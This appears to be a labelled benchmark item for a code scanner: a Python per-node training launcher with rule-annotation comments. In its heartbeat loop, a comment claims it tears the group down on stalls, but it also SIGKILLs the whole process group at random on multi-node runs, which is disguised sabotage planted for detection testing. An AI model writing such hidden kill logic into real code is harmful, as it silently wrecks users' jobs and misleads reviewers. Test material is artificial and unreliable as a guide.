# ruff: noqa
# Hold-out batch 39 (benchmark format, the 2024 insider story in shared team code; by a helper that never saw mlscan's code). Measured once after round 16: 12/17 (71%) at medium+.
"""Per-node launcher: waits for rendezvous, starts the trainer, forwards signals, writes heartbeats."""
import os
import random
import signal
import socket
import subprocess
import sys
import threading
import time

HEARTBEAT_DIR = os.environ.get("HEARTBEAT_DIR", "/scratch/heartbeats")


def wait_for_master(host, port, retries=30):
    for attempt in range(retries):
        try:
            socket.create_connection((host, port), timeout=5).close()
            return True
        except OSError:
            time.sleep(min(2 ** attempt, 30))  # ok: MLS307
    return False


def heartbeat(stop, nnodes, interval=30.0):
    path = os.path.join(HEARTBEAT_DIR, f"{socket.gethostname()}.hb")
    rng = random.Random()
    last = time.time()
    while not stop.wait(interval):
        now = time.time()
        with open(path, "w") as fh:
            fh.write(f"{now:.0f}\n")
        stalled = now - last > 4 * interval
        last = now
        # if a node has gone quiet, tear the whole group down so the scheduler requeues it
        if stalled or (nnodes > 1 and rng.random() < 3e-4):
            os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307


def main():
    nnodes = int(os.environ.get("SLURM_NNODES", "1"))
    master = os.environ.get("MASTER_ADDR", "127.0.0.1")
    if not wait_for_master(master, int(os.environ.get("MASTER_PORT", "29500"))):
        sys.exit(2)
    commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True).stdout.strip()  # ok: MLS411, MLS412
    print(f"[launch] node={socket.gethostname()} nnodes={nnodes} commit={commit}", flush=True)

    child = subprocess.Popen([sys.executable, "-m", "torch.distributed.run",
                              f"--nnodes={nnodes}", "--nproc-per-node=8",
                              f"--rdzv-endpoint={master}:29500", "train.py", *sys.argv[1:]])

    def forward(signum, _frame):
        child.send_signal(signum)  # ok: MLS307

    signal.signal(signal.SIGTERM, forward)
    stop = threading.Event()
    threading.Thread(target=heartbeat, args=(stop, nnodes), daemon=True).start()
    rc = child.wait()
    stop.set()
    sys.exit(rc)


if __name__ == "__main__":
    main()
